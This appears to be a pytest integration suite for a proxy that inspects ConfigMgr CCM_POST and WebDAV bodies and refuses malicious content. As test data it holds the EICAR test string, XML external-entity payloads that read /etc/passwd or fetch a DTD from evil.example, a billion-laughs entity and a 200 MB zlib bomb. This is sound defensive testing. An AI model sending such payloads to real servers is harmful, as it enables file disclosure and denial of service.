"""What is in the bodies: BRIDGE-INSPECT, and BRIDGE-IDENTITY for all that is good."""

from __future__ import annotations

import zlib

import pytest
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey

from ibcm_bridge.decisions.denial import Reason
from ibcm_bridge.lab.protocol import ccm, documents
from ibcm_bridge.lab.protocol.client import Response
from tests.integration.lab import Lab
from tests.integration.memory import peak_memory, reset_peak

GUID = "5EC2E700-0000-4000-8000-0000000000AA"
REQUEST = "/ccm_system/request"
CONTENT = "/SMS_DP_SMSPKG$/Content_00000000-0000-0000-0000-000000000007.1"

# In parts, so that no file of this project is a test virus; only the running test has it whole.
EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"))


def post(lab: Lab, body: bytes, content_type: str = ccm.CONTENT_TYPE) -> Response:
    fields = {**lab.identification, "Connection": "close", "Content-Type": content_type}
    return lab.send_one(lab.request("CCM_POST", REQUEST, fields, body))


def report(content: str) -> str:
    return f"<Report><ReportBody>{content}</ReportBody></Report>"


def around(payload: bytes, length: int, hooks: str = ccm.ZLIB_HOOK, **frame: bytes) -> bytes:
    """A message with this payload, as it is."""
    return ccm.raw_message(ccm.message_header("MP_HinvEndpoint", length, hooks), payload, **frame)


def compressed(xml: str) -> tuple[bytes, int]:
    plain = xml.encode("utf-16-le") + b"\0\0"
    return zlib.compress(plain), len(plain)


# Good messages


def key_of(lab: Lab) -> RSAPrivateKey:
    key = lab.credentials.computer.key
    assert isinstance(key, RSAPrivateKey)
    return key


GOOD = {
    "registration": ("MP_ClientRegistration", "ClientRegistrationResponse"),
    "policy": ("MP_PolicyManager", "ReplyAssignments"),
    "ContentLocationRequest": ("MP_LocationManager", "ContentLocationReply"),
    "WSUSLocationRequest": ("MP_LocationManager", "WSUSLocationReply"),
    "EnumerateMPLocationRequest": ("MP_LocationManager", "EnumerateMPLocationReply"),
    "SiteInformationRequest": ("MP_LocationManager", "SiteInformationReply"),
    "inventory": ("MP_HinvEndpoint", None),
    "discovery": ("MP_DdrEndpoint", None),
    "software": ("MP_SinvEndpoint", None),
    "relay": ("MP_RelayEndpoint", None),
    "status": ("StatusReceiver", None),
}


def xml_of(lab: Lab, kind: str) -> str:
    if kind == "registration":
        certificate = lab.credentials.computer.certificate
        return documents.registration_request(certificate, key_of(lab), fqdn="pc1.corp.example")
    if kind == "policy":
        return documents.policy_request(GUID)
    if kind.endswith("Request"):
        return documents.location_request(kind)
    if kind == "status":
        return '<Status SchemaVersion="1.0"/>'
    return documents.inventory_report(GUID)


@pytest.mark.parametrize("signed", [True, False], ids=["signed", "unsigned"])
@pytest.mark.parametrize("kind", GOOD)
def test_a_good_message_passes_byte_for_byte(lab: Lab, kind: str, signed: bool) -> None:
    endpoint, root = GOOD[kind]
    body = ccm.ccm_post_body(
        endpoint=endpoint,
        body_xml=xml_of(lab, kind),
        client_guid="" if kind == "registration" else GUID,
        key=key_of(lab) if signed else None,
    )
    with lab.client() as client:
        reply = lab.ccm_post(client, body)
    assert (reply.status, reply.header("Content-Type")) == (200, ccm.CONTENT_TYPE)
    assert lab.received().body == body
    if kind == "policy" and not signed:
        assert reply.body == b"", "policy is for clients that sign (protocol.md §2.1)"
    elif root is None:
        assert reply.body == ccm.NO_REPLY
    else:
        _, answer = ccm.parse_reply(reply.body)
        assert answer is not None
        assert answer.startswith(f"<{root}")
    record = lab.record()
    assert (record["verdict"], record["rule"]) == ("allow", "management-point.verbs.CCM_POST")
    views = [view.partition(":")[0] for view in record["inspected"]]
    assert views == ["sent", "header", "inflated", "text", "parsed-text"]


def test_other_ways_of_writing_a_good_message_pass(lab: Lab) -> None:
    xml = report("x")
    payload, length = compressed(xml)
    plain = xml.encode("utf-16-le") + b"\0\0"
    declared, declared_length = compressed(f'<?xml version="1.0" encoding="UTF-16"?>{xml}')
    messages = {
        "uncompressed": around(plain, length, "", inner_type=b"text/plain; charset=UTF-16"),
        "with a declaration": around(declared, declared_length),
        "crlf after the boundary": around(payload, length) + b"\r\n",
        "not quite all of it": around(payload, length - 2),
    }
    for name, body in messages.items():
        with lab.client() as client:
            assert lab.ccm_post(client, body).status == 200, name
    assert [received.body for received in lab.site.received()] == list(messages.values())
    assert len(lab.records(len(messages))) == len(messages)


@pytest.mark.parametrize("quoted", [True, False])
def test_another_boundary_passes(lab: Lab, quoted: bool) -> None:
    payload, length = compressed(report("x"))
    body = around(payload, length, boundary=b"another-boundary_1")
    boundary = '"another-boundary_1"' if quoted else "another-boundary_1"
    fields = {"Connection": "close", "Content-Type": f"multipart/mixed; boundary={boundary}"}
    assert lab.send_one(lab.request("CCM_POST", REQUEST, fields, body)).status == 200
    assert lab.received().body == body
    assert lab.record()["verdict"] == "allow"


def test_an_inventory_of_many_megabytes_passes(lab: Lab) -> None:
    body = lab.message(xml=documents.inventory_report(GUID, 16_000))
    with lab.client() as client:
        assert lab.ccm_post(client, body).body == ccm.NO_REPLY
    inflated = lab.record()["inspected"][2]
    assert int(inflated.partition(":")[2]) > 10_000_000


# Malicious content


@pytest.mark.parametrize(
    "where",
    [
        "element",
        "attribute",
        "attachment",
        "uncompressed",
        "escaped",
    ],
)
def test_a_test_virus_is_found_in_the_compressed_part(lab: Lab, where: str) -> None:
    lab.secrets.add(EICAR)
    xml = report(f"<![CDATA[{EICAR}]]>")
    if where == "attribute":
        xml = f"<Report Name='{EICAR}'/>"
    payload, length = compressed(xml)
    body = around(payload, length)
    if where == "uncompressed":
        plain = xml.encode("utf-16-le") + b"\0\0"
        body = around(plain, length, "", inner_type=b"text/plain; charset=UTF-16")
    elif where == "attachment":
        first = report("x").encode("utf-16-le") + b"\0\0"
        header = ccm.message_header("MP_DdrEndpoint", len(first)).replace(
            "<CorrelationID>",
            f'<Attachment Offset="{len(first)}" Length="{length}"/><CorrelationID>',
        )
        body = ccm.raw_message(header, zlib.compress(first + xml.encode("utf-16-le") + b"\0\0"))
    elif where == "escaped":
        # Where a reader of the XML, but no reader of the bytes, finds it.
        escaped = "".join(f"&#{ord(letter)};" for letter in EICAR)
        payload, length = compressed(report(escaped))
        body = around(payload, length)
    assert EICAR.encode() not in body
    reply = post(lab, body)
    record = lab.check_refused(reply, Reason.MALICIOUS_CONTENT, "engines.yara-x", "BRIDGE-INSPECT")
    assert record["detail"].startswith("eicar_test_file in ")


def test_a_test_virus_is_found_in_the_header(lab: Lab) -> None:
    payload, length = compressed(report("x"))
    header = ccm.message_header("MP_HinvEndpoint", length).replace(
        "<CorrelationID>", f"<Property Name=\"x\" Value='{EICAR}'/><CorrelationID>"
    )
    reply = post(lab, ccm.raw_message(header, payload))
    lab.check_refused(reply, Reason.MALICIOUS_CONTENT, "engines.yara-x")


def test_a_test_virus_is_found_in_a_propfind(lab: Lab) -> None:
    body = f"<propfind xmlns='DAV:'><prop><!-- {EICAR} --></prop></propfind>".encode()
    data = lab.request("PROPFIND", CONTENT, {"Content-Type": "text/xml"}, body)
    lab.check_refused(lab.send_one(data), Reason.MALICIOUS_CONTENT, "engines.yara-x")


def test_half_a_test_virus_is_none(lab: Lab) -> None:
    payload, length = compressed(report(f"<![CDATA[{EICAR[:40]}]]>"))
    with lab.client() as client:
        assert lab.ccm_post(client, around(payload, length)).status == 200
    assert lab.record()["verdict"] == "allow"


# XML

DTD = {
    "external-entity": '<!DOCTYPE Report [<!ENTITY x SYSTEM "file:///etc/passwd">]><Report>&x;</Report>',
    "external-dtd": '<!DOCTYPE Report SYSTEM "http://evil.example/x.dtd"><Report/>',
    "parameter-entity": '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><r/>',
    "billion-laughs": '<!DOCTYPE r [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>',
    "empty": "<!DOCTYPE Report><Report/>",
}


@pytest.mark.parametrize("case", DTD)
def test_a_document_type_is_refused_in_the_payload(lab: Lab, case: str) -> None:
    payload, length = compressed(DTD[case])
    reply = post(lab, around(payload, length))
    lab.check_refused(reply, Reason.XML_DTD, "ccm.payload.dtd", "BRIDGE-INSPECT")


@pytest.mark.parametrize("case", DTD)
def test_a_document_type_is_refused_in_a_propfind(lab: Lab, case: str) -> None:
    data = lab.request("PROPFIND", CONTENT, {"Content-Type": "text/xml"}, DTD[case].encode())
    lab.check_refused(lab.send_one(data), Reason.XML_DTD, "bodies.webdav.dtd")


def test_a_document_type_is_refused_in_the_header(lab: Lab) -> None:
    payload, length = compressed(report("x"))
    header = '<!DOCTYPE Msg [<!ENTITY x "y">]>' + ccm.message_header("MP_HinvEndpoint", length)
    reply = post(lab, ccm.raw_message(header, payload))
    lab.check_refused(reply, Reason.XML_DTD, "ccm.header.dtd")


@pytest.mark.parametrize(
    "xml", ["<Report>", "", "no xml", "<a/><b/>", "<a>&undefined;</a>", "<a>\x01</a>"]
)
def test_xml_that_is_not_well_formed_is_refused(lab: Lab, xml: str) -> None:
    payload, length = compressed(xml)
    reply = post(lab, around(payload, length))
    lab.check_refused(reply, Reason.XML, "ccm.payload.xml")


def test_another_encoding_than_utf_16_is_refused(lab: Lab) -> None:
    plain = b"\x00\xd8<\x00"  # half of a surrogate pair
    reply = post(lab, around(zlib.compress(plain), len(plain)))
    lab.check_refused(reply, Reason.ENCODING, "ccm.payload")


# Compression


def test_a_bomb_of_200_mb_in_200_kb_is_refused(lab: Lab) -> None:
    body = around(zlib.compress(bytes(200_000_000), 9), 200_000_000)
    assert len(body) < 250_000
    before = reset_peak(lab.bridge.pid)
    reply = post(lab, body)
    record = lab.check_refused(
        reply, Reason.INFLATED_TOO_LARGE, "ccm.inflated_limit", "BRIDGE-INSPECT"
    )
    assert record["duration_seconds"] < 2
    # The limit of 32 MB and little more, wherever memory can be read.
    assert before is None or peak_memory(lab.bridge.pid) - before < 80 * 1024 * 1024


@pytest.mark.parametrize("case", ["no-zlib", "cut-short", "with-a-tail", "two-streams", "gzip"])
def test_a_compressed_part_that_is_no_single_zlib_stream_is_refused(lab: Lab, case: str) -> None:
    payload, length = compressed(report("x" * 1000))
    gzip = zlib.compressobj(wbits=31)
    broken = {
        "no-zlib": report("x").encode("utf-16-le"),
        "cut-short": payload[:-10],
        "with-a-tail": payload + b"tail",
        "two-streams": payload + payload,
        "gzip": gzip.compress(report("x").encode("utf-16-le")) + gzip.flush(),
    }[case]
    reply = post(lab, around(broken, length))
    lab.check_refused(reply, Reason.COMPRESSION, "ccm.zlib", "BRIDGE-INSPECT")


def test_hooks_and_type_of_the_payload_must_agree(lab: Lab) -> None:
    payload, length = compressed(report("x"))
    reply = post(lab, around(payload, length, hooks=""))
    lab.check_refused(reply, Reason.COMPRESSION, "ccm.hooks")


@pytest.mark.parametrize(
    "hooks",
    [
        f'<Hook2 Name="encrypt"/>{ccm.ZLIB_HOOK}',
        f'{ccm.ZLIB_HOOK}<Hook3 Name="encrypt"><Property Name="x">y</Property></Hook3>',
        f'<Hook Name="compress"/>{ccm.ZLIB_HOOK}',
        f"<Hook2/>{ccm.ZLIB_HOOK}",
        f'<Hook4 Name="something-new"/>{ccm.ZLIB_HOOK}',
    ],
)
def test_what_cannot_be_read_cannot_be_inspected(lab: Lab, hooks: str) -> None:
    payload, length = compressed(report("x"))
    reply = post(lab, around(payload, length, hooks))
    rule = "messages.encrypted" if '"encrypt"' in hooks else "ccm.hooks"
    lab.check_refused(reply, Reason.BODY_NOT_INSPECTABLE, rule, "BRIDGE-INSPECT")


# Multipart


def frame_cases() -> dict[str, tuple[bytes, Reason, str]]:
    payload, length = compressed(report("x"))
    good = around(payload, length)
    line = b"content-type: application/octet-stream"
    broken = Reason.MULTIPART
    return {
        "unclosed": (good.removesuffix(b"--"), broken, "multipart.close"),
        "no-end": (good[: good.rindex(b"\r\n--")], broken, "multipart.close"),
        "epilogue": (good + b"\r\nmore", broken, "multipart.close"),
        "preamble": (b"preamble\r\n" + good, broken, "multipart.preamble"),
        "closed-twice": (good + b"\r\n--" + ccm.BOUNDARY + b"--", broken, None),
        "one-part": (ccm.NO_REPLY, broken, "ccm.parts"),
        "a-third-part": (
            good.removesuffix(b"--") + b"\r\n" + line + b"\r\n\r\nx\r\n--" + ccm.BOUNDARY + b"--",
            broken,
            "ccm.parts",
        ),
        "a-part-without-type": (good.replace(line, b""), broken, "multipart.part-head"),
        "another-field": (
            good.replace(line, line + b"\r\nContent-Transfer-Encoding: base64"),
            broken,
            "multipart.part-head",
        ),
        "bare-lf": (good.replace(b"\r\n", b"\n"), broken, None),
        "empty": (b"", broken, "multipart.preamble"),
    }


@pytest.mark.parametrize("case", frame_cases())
def test_a_frame_that_can_be_split_elsewhere_is_refused(lab: Lab, case: str) -> None:
    body, reason, rule = frame_cases()[case]
    reply = post(lab, body)
    rule = rule or lab.record()["rule"]
    assert rule.startswith(("multipart.", "ccm.parts"))
    lab.check_refused(reply, reason, rule, "HTTP-MULTIPART")


@pytest.mark.parametrize(
    "content_type",
    [
        "multipart/mixed",
        "multipart/mixed; boundary=",
        'multipart/mixed; boundary=""',
        f'{ccm.CONTENT_TYPE}; boundary="other"',
        f"multipart/mixed; boundary={'x' * 71}",
        f'multipart/mixed; charset=x; boundary="{ccm.BOUNDARY.decode()}"',
    ],
)
def test_there_is_one_boundary(lab: Lab, content_type: str) -> None:
    reply = post(lab, lab.message(), content_type)
    lab.check_refused(reply, Reason.MULTIPART, "multipart.boundary", "HTTP-MULTIPART")


@pytest.mark.parametrize(
    "inner_type",
    [
        b"application/x-msdownload",
        b"application/octet-stream; x=y",
        b"multipart/mixed; boundary=inner",
        b"text/html",
        b"",
    ],
)
def test_a_part_of_another_type_is_refused(lab: Lab, inner_type: bytes) -> None:
    payload, length = compressed(report("x"))
    reply = post(lab, around(payload, length, inner_type=inner_type))
    lab.check_refused(reply, Reason.INNER_MEDIA_TYPE, "ccm.payload", "HTTP-MULTIPART")


# Slices


@pytest.mark.parametrize(
    ("offset", "taken"), [(0, 2), (2, 0), (0, -4), (1, 0), (10**8, 0)], ids=str
)
def test_a_body_that_is_not_where_the_header_says_is_refused(
    lab: Lab, offset: int, taken: int
) -> None:
    payload, length = compressed(report("x"))
    header = ccm.message_header("MP_HinvEndpoint", length + taken)
    header = header.replace('Offset="0"', f'Offset="{offset}"')
    reply = post(lab, ccm.raw_message(header, payload))
    record = lab.record()
    assert record["rule"] in ("ccm.slices", "ccm.payload.xml")
    lab.check_refused(reply, Reason.XML, record["rule"])


def test_what_no_slice_covers_is_refused(lab: Lab) -> None:
    plain = report("x").encode("utf-16-le") + b"\0\0"
    hidden = zlib.compress(plain + "hidden".encode("utf-16-le"))
    reply = post(lab, around(hidden, len(plain)))
    lab.check_refused(reply, Reason.XML, "ccm.slices")


# Boot media (protocol.md §1.3): not needed on the Internet


def test_a_message_of_boot_media_is_refused(lab: Lab) -> None:
    header = f"<Msg><ID/><SourceID>{GUID}</SourceID><ReplyTo>direct:OSD</ReplyTo></Msg>"
    boundary = b"0123456789"
    body = (
        b'--%b\r\nContent-Disposition: form-data; name="Msg"\r\n'
        b"Content-Type: text/plain; charset=UTF-16\r\n\r\n\xff\xfe%b\r\n--%b\r\n"
        b'Content-Disposition: form-data; name="RequestAssignments"\r\n\r\n<x/>\r\n--%b--\r\n'
    ) % (boundary, header.encode("utf-16-le"), boundary, boundary)
    reply = post(lab, body, f"multipart/mixed; boundary={boundary.decode()}")
    lab.check_refused(reply, Reason.MULTIPART, "multipart.part-head")


# PROPFIND


@pytest.mark.parametrize("media_type", ["text/xml", "application/xml", 'text/xml; charset="utf-8"'])
def test_a_propfind_passes(lab: Lab, media_type: str) -> None:
    body = b'<?xml version="1.0" encoding="utf-8"?><propfind xmlns="DAV:"><allprop/></propfind>'
    fields = {"Connection": "close", "Content-Type": media_type, "Depth": "infinity"}
    reply = lab.send_one(lab.request("PROPFIND", CONTENT, fields, body))
    assert reply.status == 207
    assert lab.received().body == body
    assert lab.record()["inspected"] == [f"sent:{len(body)}"]


@pytest.mark.parametrize(
    ("body", "reason", "rule"),
    [
        (b"<propfind", Reason.XML, "bodies.webdav.xml"),
        (b"\xff\xfe<\0a\0/\0>\0", Reason.ENCODING, "bodies.webdav"),
        (b"<a>\xff</a>", Reason.ENCODING, "bodies.webdav"),
        (
            b'<?xml version="1.0" encoding="utf-7"?><a/>',
            Reason.ENCODING,
            "bodies.webdav.encoding",
        ),
    ],
)
def test_a_propfind_that_cannot_be_read_is_refused(
    lab: Lab, body: bytes, reason: Reason, rule: str
) -> None:
    data = lab.request("PROPFIND", CONTENT, {"Content-Type": "text/xml"}, body)
    lab.check_refused(lab.send_one(data), reason, rule, "BRIDGE-INSPECT")
